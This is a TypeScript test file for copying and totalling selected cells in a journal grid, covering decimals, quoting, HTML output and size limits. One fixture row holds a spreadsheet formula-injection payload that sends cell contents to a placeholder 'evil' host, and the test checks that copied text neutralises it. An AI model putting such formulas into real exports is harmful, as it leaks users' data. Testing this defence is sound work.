import { describe, expect, it } from 'vitest';
import { figuresOf, selectedCells } from '@/components/journal/lines/selected-cells';
import { cellsIn, mostSelectedLines } from '@/components/journal/lines/selection-size';
import type { JournalRow } from '@/lib/contract/journal/journal';
import { journalField } from '@/lib/domain/journal/field-index';

const fields = ['Description', 'PostingDate', 'Quantity', 'Amount'].flatMap(
  (name) => journalField(name) ?? [],
);
const lines: JournalRow[] = Array.from({ length: 20 }, (_, at) => ({
  Description: at === 1 ? '=HYPERLINK("http://evil/?"&A1)' : at === 2 ? 'two\tcells\nor lines' : `line ${at}`,
  PostingDate: at === 3 ? '0001-01-01' : '2026-11-15',
  Quantity: at === 4 ? 0.1234567 : at,
  Amount: at === 5 ? 1_005.5 : 0.1,
}));
const selectedText = async (...selection: Parameters<typeof selectedCells>) =>
  (await selectedCells(...selection)).text;
const read = (top: number, bottom: number) => Promise.resolve(lines.slice(top, bottom + 1));
const band = (top: number, bottom: number, left: number, right: number) => ({
  top,
  bottom,
  runs: [{ left, right }],
});

describe('selected cells', () => {
  it('are added up to the last decimal, and unset ones are none', async () => {
    const figures = await figuresOf([band(0, 2, 0, 3)], fields, read);
    expect(figures?.numbers).toMatchObject({ count: 6, sum: '3.3', hasAmounts: true });
    expect(figures?.numbers?.least.value).toBe(0);
    expect(figures?.numbers?.most.value).toBe(2);
    expect(figures?.filled).toBe(12);
    expect((await figuresOf([band(3, 3, 1, 1)], fields, read))?.filled).toBe(0);
    expect((await figuresOf([band(4, 4, 2, 3)], fields, read))?.numbers?.sum).toBe('0.2234567');
  });

  it('are copied with all digits and no thousands, as neither formulas nor further cells', async () => {
    expect(await selectedText([band(4, 5, 2, 3)], fields, read, false)).toBe('0.1234567\t0.1\n5\t1005.5');
    expect(await selectedText([band(2, 3, 1, 1)], fields, read, false)).toBe('11/15/2026\n');
    const text = await selectedText([band(1, 2, 0, 0)], fields, read, false);
    expect(text.split('\n')).toEqual(['\'=HYPERLINK("http://evil/?"&A1)', 'two cells or lines']);
  });

  it('keep quotes, zeros and sums of many digits as they are', async () => {
    const [item, amount] = ['ItemNo', 'Amount'].flatMap((name) => journalField(name) ?? []);
    const one = { ItemNo: '00010', Amount: '-12345678901234567.125' };
    const many = [
      one,
      { ItemNo: '-100', Amount: 1 },
      { ItemNo: '"A" & <B>', Amount: 1_234.5 },
      { ItemNo: '', Amount: '' },
    ];
    const copied = await selectedCells(
      [band(0, 3, 0, 1)],
      item && amount ? [item, amount] : [],
      () => Promise.resolve(many),
      false,
    );
    expect(copied.text).toBe('00010\t-12345678901234567.125\n\'-100\t1\n"""A"" & <B>"\t1234.5\n\t');
    const table = /<table>(.*)<\/table>/s.exec(copied.html)?.[1] ?? '';
    const cells = [...table.matchAll(/<td([^>]*)>([^<]*)<\/td>/g)].map(([, how = '', text]) => ({
      isText: how.includes(' x:str '),
      text,
    }));
    expect(cells).toEqual([
      { isText: true, text: '00010' },
      { isText: false, text: '-12345678901234567.125' },
      { isText: true, text: '-100' },
      { isText: false, text: '1' },
      { isText: true, text: '"A" &amp; &lt;B>' },
      { isText: false, text: '1234.5' },
      { isText: true, text: '' },
      { isText: false, text: '' },
    ]);
  });

  it('stand below their own heads, also where ranges have different columns', async () => {
    const text = await selectedText([band(0, 1, 2, 2), band(5, 6, 3, 3)], fields, read, true);
    expect(text).toBe('Quantity\tAmount\n0\t\n1\t\n\t1005.5\n\t0.1');
  });

  it('come to nothing where lines have left the list meanwhile', async () => {
    await expect(figuresOf([band(15, 25, 2, 2)], fields, read)).rejects.toThrow('left the list');
    await expect(selectedText([band(15, 25, 2, 2)], fields, read, true)).rejects.toThrow('left the list');
  });

  it('are not read where they are too many', async () => {
    const all = [band(0, mostSelectedLines, 0, 3)];
    expect(cellsIn(all)).toBe(4 * (mostSelectedLines + 1));
    const never = () => Promise.reject(new Error('nobody reads so many'));
    expect(await figuresOf(all, fields, never)).toBeNull();
  });
});
